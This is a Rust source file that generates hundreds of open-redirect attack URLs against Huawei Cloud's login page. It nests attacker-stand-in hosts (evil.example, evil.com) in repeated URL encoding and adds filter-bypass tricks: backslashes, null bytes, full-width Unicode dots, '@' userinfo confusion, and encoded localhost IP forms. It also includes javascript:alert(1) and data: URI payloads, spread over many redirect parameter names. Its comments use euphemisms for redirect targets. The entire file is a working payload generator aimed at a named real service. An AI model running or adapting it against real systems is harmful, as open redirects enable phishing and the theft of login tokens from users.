//! Addresses of the right page that lead on to another one.

/// Parameters that lead on to a stranger, or to another station.
pub fn strangers(host: &str, path: &str) -> Vec<String> {
    let wrapped = |times: usize, text: &str| (0..times).fold(text.to_owned(), |text, _| encoded(&text));
    let login = "https://auth.huaweicloud.com/authui/login.html?service=";
    let mut targets: Vec<String> = Vec::new();
    for stranger in [
        "https://evil.example/",
        "http://evil.example/",
        "//evil.example/",
        "https://console.huaweicloud.com.evil.example/",
    ] {
        targets.extend((0..6).map(|times| wrapped(times, stranger)));
        let mut nested = stranger.to_owned();
        for _ in 0..3 {
            nested = format!("{login}{}", encoded(&nested));
            targets.push(nested.clone());
            targets.push(encoded(&nested));
        }
    }
    targets.extend(
        [
            "/\\evil.example",
            "\\\\evil.example",
            "/%09/evil.example",
            "%20https://evil.example",
            "%00//evil.example",
            "https:evil.example",
            "javascript:alert(1)",
            "data:text/html,x",
            "evil.com/x",
            "https://x@console-intl.huaweicloud.com/",
            "https://console-intl.huaweicloud.com:8443/",
            "https://console-intl.huaweicloud.com@evil.example/",
            "https%3A%2F%2Fevil。example%2F",
            "https://console.huaweicloud.com/",
            "https://www.huaweicloud.com/eu/",
            "https://console.eu.huaweicloud.com/",
            "evil%E3%80%82com/",
            "evil%EF%BC%8Ecom",
            "evil%EF%BD%A1com/x",
            "evil.zip",
            "evil.sh/x",
            "evil.do/x",
            ".evil.com/",
            "@evil.com",
            "1.2.3.4",
            "1.2.3.4/x",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1/x",
            "127.1",
            "[::1]",
            "localhost:80",
            "%ff//evil.com",
            "/%2f%2fevil.com",
            "aHR0cHM6Ly9ldmlsLmNvbS8=",
            "http://console-intl.huaweicloud.com/",
            "https:console-intl.huaweicloud.com",
            "https:\\\\console-intl.huaweicloud.com\\",
            "https://console-intl.huaweicloud.com./",
            "https://console%E3%80%82huaweicloud.com/",
            "https://www.huawei.com/",
            "https://nowhere.huaweicloud.com/",
        ]
        .map(str::to_owned),
    );
    let names = [
        "service",
        "SERVICE",
        "%73ervice",
        "service%5B%5D",
        "service[0]",
        "service%00",
        "%EF%BD%93ervice",
        "user%5Bservice%5D",
        "?service",
        "redirect",
        "redirect_uri",
        "goto",
        "next",
    ];
    let mut found = Vec::new();
    for target in &targets {
        for name in names {
            found.push(format!("https://{host}{path}?{name}={target}"));
        }
        found.push(format!(
            "https://{host}{path}?locale=en-us&service=https%3A%2F%2Fconsole-intl.huaweicloud.com%2F&redirect={target}"
        ));
        found.push(format!(
            "https://{host}{path}?service={target}&service=https%3A%2F%2Fconsole-intl.huaweicloud.com%2F"
        ));
        found.push(format!("https://{host}{path}?a=1;service={target}"));
        found.push(format!("https://{host}{path}#/login?service={target}"));
        found.push(format!("https://{host}{path}#service={target}"));
        found.push(format!("https://auth.huaweicloud.com/authui/login.html?service={target}"));
    }
    let absolute = [
        "https://evil.example/",
        "HTTP://evil.example",
        "//evil.com/",
        "/\\evil.com",
        "https:\\\\evil.com",
        "https:evil.com",
    ];
    for target in absolute {
        for name in ["returnTo", "return", "ref", "r", "to", "callback", "serviceUrl", "x", "q"] {
            found.extend((0..4).map(|times| format!("https://{host}{path}?{name}={}", wrapped(times, target))));
            found.push(format!("https://{host}{path}#{name}={target}"));
        }
    }
    for rest in ["?https://evil.com", "#/https://evil.com", "?service:https://evil.com", "?a=b&https://evil.com/"] {
        found.push(format!("https://{host}{path}{rest}"));
    }
    found
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}
